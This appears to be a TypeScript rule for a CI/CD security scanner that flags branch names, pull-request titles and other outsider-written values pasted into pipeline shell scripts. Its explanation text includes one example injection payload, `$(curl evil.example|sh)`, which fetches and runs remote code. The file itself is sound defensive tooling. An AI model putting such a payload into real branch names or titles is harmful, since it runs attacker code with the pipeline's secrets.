import type { Repository } from '#pipeline/repository.ts';
import type { Insertion } from '#pipeline/surface.ts';
import type { Hop } from '#pipeline/taint.ts';
import type { Report, Rule } from '../../rule.ts';
import { describeCredentials } from '../../shared/surface-credentials.ts';
import { attackOf, type Exposure } from '../../shared/surface-exposure.ts';
import {
  nameJob,
  placeOfJob,
  surfaceJobs,
  type SurfaceJob,
  surfacePlatforms,
} from '../../shared/surface-jobs.ts';
import { type Candidate, reportWorst } from '../../shared/surface-report.ts';
import { environmentFix } from './environment-fix.ts';
import { describeHandOver, judgeValue, nameValue, nameWriter } from '../../shared/surface-values.ts';

const RELATED_MAX = 5;

function locate({ text, start, end }: Insertion): { source: Insertion['text']['source']; span: Hop['span'] } {
  return { source: text.source, span: text.span(start, Math.max(end, start + 1)) };
}

/** From who starts the run to the script, by way of what carries the value. */
function pathOf(first: Insertion, { job }: SurfaceJob, { start }: Exposure): Hop[] {
  const begins = start === undefined ? [] : [{ label: start.what, ...placeOfJob(job) }];
  const last = { label: `${first.name.slice(0, 60)} is pasted into the script`, ...locate(first) };
  return [...begins, ...first.hops, last];
}

function toCandidate(same: readonly Insertion[], at: SurfaceJob): Candidate | undefined {
  const [first, ...others] = same;
  if (first === undefined) return undefined;
  const { job, surface } = at;
  const { platform } = job.pipeline;
  const { exposure, ...verdict } = judgeValue(first, surface);
  const attack = verdict.persona === 'regular' ? attackOf(at, exposure) : undefined;
  const held = exposure.reach === 'full' ? describeCredentials(surface, platform) : undefined;
  const written = first.text.value.slice(first.start, first.end);
  const report: Omit<Report, 'at'> = {
    ...verdict,
    // What a setting decides that is not in the file is never the worst that there is.
    severity:
      held !== undefined && verdict.severity === 'high' && verdict.confidence === 'high'
        ? 'critical'
        : verdict.severity,
    message: `${nameWriter(first)} ${nameValue(first)}, and it becomes code of the job ${nameJob(job)}${held === undefined ? '' : `, which has ${held}`}`,
    remedy: describeHandOver(platform, first, written),
    related: others
      .slice(0, RELATED_MAX)
      .map((other) => ({ at: locate(other).span, source: other.text.source, label: 'and here' })),
    ...(attack === undefined ? {} : { attack, path: pathOf(first, at, exposure) }),
    fixes: [environmentFix(same, job)],
    key: `${job.id} ${first.name}`,
  };
  return { ...locate(first), report };
}

/** What is no code can still be an option of a program, another image or another file. */
function toArgument(insertion: Insertion, { job, surface }: SurfaceJob): Candidate {
  const { exposure, ...verdict } = judgeValue(insertion, surface);
  const open = verdict.persona === 'regular' && exposure.reach !== 'members';
  return {
    ...locate(insertion),
    report: {
      severity: open ? 'medium' : 'low',
      confidence: 'low',
      persona: open ? 'pedantic' : 'auditor',
      message: `${nameWriter(insertion)} ${nameValue(insertion)}, and it decides about a setting of the job ${nameJob(job)}`,
      remedy:
        'Compare the value with a list of those that are allowed before anything uses it, or write the setting down.',
      key: `${job.id} ${insertion.name}`,
    },
  };
}

function findInsertions(repository: Repository): Candidate[] {
  return surfaceJobs(repository).flatMap((each) => {
    const { insertions } = each.surface;
    const scripts = insertions.filter(({ into }) => into === 'script');
    // One script with the same value five times is one thing to mend.
    const grouped = Map.groupBy(
      scripts,
      ({ text, name }) => `${text.source.file} ${text.node.start} ${name}`,
    );
    const written = [...grouped.values()].flatMap((same) => toCandidate(same, each) ?? []);
    const others = insertions.filter(({ into }) => into === 'argument');
    return [...written, ...others.map((insertion) => toArgument(insertion, each))];
  });
}

export const rule: Rule = {
  id: 'pasted-injection',
  title: 'Text of others is pasted into a script',
  severity: 'high',
  confidence: 'high',
  persona: 'regular',
  platforms: surfacePlatforms,
  standards: { cicdSec: ['CICD-SEC-4'], cwe: ['CWE-78', 'CWE-94'], cis: ['2.3.1', '2.3.3'] },
  description:
    'Looks for values that the platform puts into the text of a script before the shell reads it: names of branches, titles and messages of pull requests and commits, and parameters, also by way of variables, templates and results. Everybody sees those that outsiders write.',
  why: 'The shell cannot tell the value from the script around it. A branch or a title like `$(curl evil.example|sh)` runs as a command, with everything that the job can read, and no quotes around it help: the value may close them.',
  remedy:
    'Hand the value to the script as a variable of the environment, and read that variable in double quotes.',
  references: [
    'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs',
    'https://tekton.dev/docs/pipelines/tasks/#substituting-in-script-blocks',
    'https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution',
  ],
  aliases: [
    'poutine/injection',
    'checkov/CKV_CIRCLECIPIPELINES_6',
    'semgrep/argo-workflow-parameter-command-injection',
    'taudit/parameter_interpolation_into_shell',
  ],

  repository(repository, context) {
    reportWorst(findInsertions(repository), rule, context);
  },
};
